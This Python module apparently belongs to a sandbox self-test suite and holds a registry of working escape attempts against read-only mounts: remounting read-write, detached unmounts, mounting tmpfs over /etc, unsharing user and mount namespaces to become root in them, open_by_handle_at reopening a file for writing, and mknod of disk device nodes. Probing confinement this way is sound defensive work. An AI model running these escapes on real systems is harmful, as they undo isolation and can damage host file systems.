"""Attacks on what is mounted read-only: writing, linking, remounting, unmounting, handles and devices."""

from __future__ import annotations

import ctypes
import os
import stat
from collections.abc import Callable, Iterator

from . import programs
from .frame import Aim, Exploit, Refused, check, each, libc

_MS_RDONLY_OFF = 0x20 | 0x1000
"""MS_REMOUNT | MS_BIND, and none of the flags that a mount may have."""
_DETACH = 2
_NEW_MOUNTS = 0x00020000
_NEW_USERS = 0x10000000
_PRIVATE = 0x4000 | 1 << 18


def _mount(source: bytes, target: str, fstype: bytes | None, flags: int) -> None:
    check(libc.mount(source, os.fsencode(target), fstype, ctypes.c_ulong(flags), None), target)


def _create(directory: str) -> None:
    path = f"{directory}/.selftest"
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
    os.unlink(path)


def _append(path: str) -> None:
    fd = os.open(path, os.O_WRONLY | os.O_APPEND)
    try:
        os.write(fd, b"x")
    finally:
        os.close(fd)


def _writes(directory: str) -> Iterator[tuple[str, Callable[[], object]]]:
    file, other = f"{directory}/file", f"{directory}/other"
    yield "create", lambda: _create(directory)
    yield "append", lambda: _append(file)
    yield "chmod", lambda: os.chmod(file, 0o777)
    yield "utime", lambda: os.utime(file, (0, 0))
    yield "rename", lambda: os.rename(other, f"{directory}/moved")
    yield "unlink", lambda: os.unlink(file)
    yield "mkdir", lambda: os.mkdir(f"{directory}/.directory")


def write_base(aim: Aim) -> str:
    return each(_writes(aim.base))


def write_s(aim: Aim) -> str:
    return each(_writes(aim.s))


def link(aim: Aim) -> str:
    return each(
        (path, lambda path=path, n=n: os.link(path, f"{aim.t}/link{n}"))  # type: ignore[misc]
        for n, path in enumerate(dict.fromkeys((f"{aim.base}/linked", f"{aim.s}/linked")))
    )


def remount(aim: Aim) -> str:
    def and_write(mountpoint: str, directory: str) -> None:
        _mount(b"none", mountpoint, None, _MS_RDONLY_OFF)
        _create(directory)

    trees = (("/", aim.base), (aim.mount_of_s, aim.s))
    return each(
        (mountpoint, lambda mountpoint=mountpoint, tree=tree: and_write(mountpoint, tree))  # type: ignore[misc]
        for mountpoint, tree in trees
        if mountpoint
    )


def umount(aim: Aim) -> str:
    def gone(mountpoint: str) -> None:
        check(libc.umount2(os.fsencode(mountpoint), _DETACH), mountpoint)

    mountpoints = filter(None, (aim.mount_of_s, aim.mount_of_t))
    return each((mountpoint, lambda mountpoint=mountpoint: gone(mountpoint)) for mountpoint in mountpoints)  # type: ignore[misc]


def mount(aim: Aim) -> None:
    _mount(b"none", "/etc", b"tmpfs", 0)


def own_namespace(aim: Aim) -> str:
    def of_users() -> None:
        check(libc.unshare(_NEW_USERS), "unshare")

    def remounted(flags: int) -> None:
        check(libc.unshare(flags), "unshare")
        _mount(b"none", "/", None, _PRIVATE)
        _mount(b"none", "/", None, _MS_RDONLY_OFF)
        _create(aim.base)

    return each(
        (
            ("of users and mounts", lambda: _in_child(lambda: remounted(_NEW_USERS | _NEW_MOUNTS))),
            ("of mounts", lambda: remounted(_NEW_MOUNTS)),
            # Good for a user who is not root of the jail: he may mount memory there, and execute from it.
            ("of users", lambda: _in_child(of_users)),
        )
    )


def namespace_memory(aim: Aim) -> str:
    def executed(flags: int) -> None:
        user, group = os.geteuid(), os.getegid()
        check(libc.unshare(flags), "unshare")
        if flags & _NEW_USERS:
            _be_root_of(user, group)
        _mount(b"none", "/", None, _PRIVATE)
        _mount(b"none", aim.t, b"tmpfs", 0)
        path = programs.written(f"{aim.t}/program")
        programs.run(path, programs.arguments(path))

    return each(
        (
            ("of users and mounts", lambda: _in_child(lambda: executed(_NEW_USERS | _NEW_MOUNTS))),
            ("of mounts", lambda: _in_child(lambda: executed(_NEW_MOUNTS))),
        )
    )


def _be_root_of(user: int, group: int) -> None:
    """Be root of a new user namespace: who is nobody there makes no file (user_namespaces(7))."""
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
            file.write(text)


def _in_child(work: Callable[[], None]) -> None:
    """Run `work` in a child, for what cannot be undone. Raises its OSError."""
    pid = os.fork()
    if pid == 0:
        code = 255
        try:
            work()
            code = 0
        except OSError as error:
            code = error.errno or 255
        finally:
            os._exit(code)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code:
        raise OSError(code, os.strerror(code) if code > 0 else "killed")


class _Handle(ctypes.Structure):
    _fields_ = (("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128))


def handle(aim: Aim) -> str:
    """s and t are trees of one file system: its handles open whatever is in it, through any mount of it."""
    path = f"{aim.s}/linked"
    found = _Handle(128)
    number = ctypes.c_int()
    check(libc.name_to_handle_at(-100, os.fsencode(path), ctypes.byref(found), ctypes.byref(number), 0), path)
    through = os.open(aim.t, os.O_RDONLY | os.O_DIRECTORY)
    fd = check(libc.open_by_handle_at(through, ctypes.byref(found), os.O_RDWR), path)
    if os.fstat(fd).st_ino != os.stat(path).st_ino:
        raise Refused((), "another file")
    return f"{path} is open for writing"


def device(aim: Aim) -> str:
    return each(_nodes(aim))


def _nodes(aim: Aim) -> Iterator[tuple[str, Callable[[], object]]]:
    wanted = [("zero", stat.S_IFCHR, os.makedev(1, 5))]
    disk = _first_disk()
    if disk is not None:
        wanted.append((disk[0], stat.S_IFBLK, disk[1]))
    for name, kind, number in wanted:
        yield name, lambda name=name, kind=kind, number=number: _opened(aim, name, kind, number)  # type: ignore[misc]


def _opened(aim: Aim, name: str, kind: int, number: int) -> None:
    """Make the node and open it, for reading, without reading: a disk is not to be touched."""
    path = f"{aim.t}/node-{name}"
    os.mknod(path, kind | 0o600, number)
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    finally:
        os.unlink(path)


def _first_disk() -> tuple[str, int] | None:
    try:
        with open("/proc/partitions", encoding="ascii") as file:
            rows = [line.split() for line in file]
    except OSError:
        return None
    return next(
        ((r[3], os.makedev(int(r[0]), int(r[1]))) for r in rows if len(r) == 4 and r[0].isdigit()), None
    )


EXPLOITS: dict[str, Exploit] = {
    "write-base": write_base,
    "write-s": write_s,
    "link": link,
    "remount": remount,
    "umount": umount,
    "mount": mount,
    "own-namespace": own_namespace,
    "namespace-memory": namespace_memory,
    "handle": handle,
    "device": device,
}
